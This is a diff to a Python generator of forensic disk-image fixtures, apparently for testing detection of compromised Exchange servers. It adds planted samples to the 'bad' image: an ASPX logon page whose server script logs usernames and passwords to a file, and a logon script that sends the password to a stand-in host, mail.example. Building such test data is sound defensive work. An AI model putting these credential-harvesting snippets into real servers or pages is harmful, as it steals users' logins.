@@ -130,6 +130,37 @@ def pages(bad, good):
           "Web page under the name of a device")
 
 
+UNKNOWN = "Exchange's own page with a content that is not in the list of known ones"
+LOGON = (b'<%%@ Page Language="C#" %%><html><head><style>body { background: #%s }</style></head><body>'
+         b'<form action="/owa/auth.owa" method="POST"><input name="username"><input type="password" name="password">'
+         b'</form>%s</body></html>\r\n')
+KEEPS = (b'<script runat="server">void Page_Load(object s, System.EventArgs e) { System.IO.File.AppendAllText('
+         b'@"C:\\inetpub\\wwwroot\\aspnet_client\\log.txt", Request.Form["username"] + ":" + Request.Form["password"]); }'
+         b"</script>")
+
+
+def own_pages(bad, good):
+    """Exchange's own pages, with a content that is none of those it shipped. The bad server's build is
+    one of which all are known, the good one's is newer."""
+    auth = EX + "FrontEnd/HttpProxy/owa/auth/"
+    for files in (bad, good):
+        files[auth + "logon.aspx"] = LOGON % (b"ffeecc", b"<p>Welcome to the works</p>")
+        files[auth + "errorFE.aspx"] = b""  # as Exchange shipped one
+    thing("known good", "changed", auth + "logon.aspx",
+          UNKNOWN, "another content than Exchange ships")
+    bad[auth + "expiredpassword.aspx"] = LOGON % (b"ffffff", KEEPS)
+    good[auth + "expiredpassword.aspx"] = LOGON % (b"ffeecc", b"<p>Ask the help desk: 4711</p>")
+    thing("known good", "keeps passwords", auth + "expiredpassword.aspx",
+          "Web shell by what its script does with a request", "keeps a password")
+    script = auth + "15.1.2106/scripts/premium/flogon.js"
+    bad[script] = ('function clkLgn() { new Image().src = "https://mail.example/?" + gbid("password").value; '
+                   "document.logonForm.submit(); }").encode()
+    good[script] = ('function clkLgn() { if (gbid("password").value == "") return; document.cookie = "logondata=acc=1"; '
+                    'gbid("logo").src = "/owa/auth/works.png"; document.logonForm.submit(); }').encode()
+    thing("known good", "script passes passwords on", script,
+          "logon_page_passes_password_on: Script of Exchange's logon page that passes the password on")
+
+
 # --- configuration, tasks, programs -------------------------------------------------------------------
 
 OWA = "Microsoft.Exchange.Clients.Owa.Core.OwaModule, Microsoft.Exchange.Clients.Owa"
@@ -653,7 +684,7 @@ def files(work):
     """Of both servers; leaves their volumes in the folder `work` as BAD01.dd and GOOD01.dd."""
     bad, good = {}, {}
     THINGS.clear()
-    for make in (pages, settings, registry, event_logs, mailbox_logs, request_logs, web_services, staged, gone, builds):
+    for make in (pages, own_pages, settings, registry, event_logs, mailbox_logs, request_logs, web_services, staged, gone, builds):
         make(bad, good)
     bad[MFT] = volume(str(work / "BAD01.dd"), bad, ["/inetpub/wwwroot/aspnet_client/gone.aspx"])
     good[MFT] = volume(str(work / "GOOD01.dd"), good, ["/Users/admin/Documents/gone.aspx"])
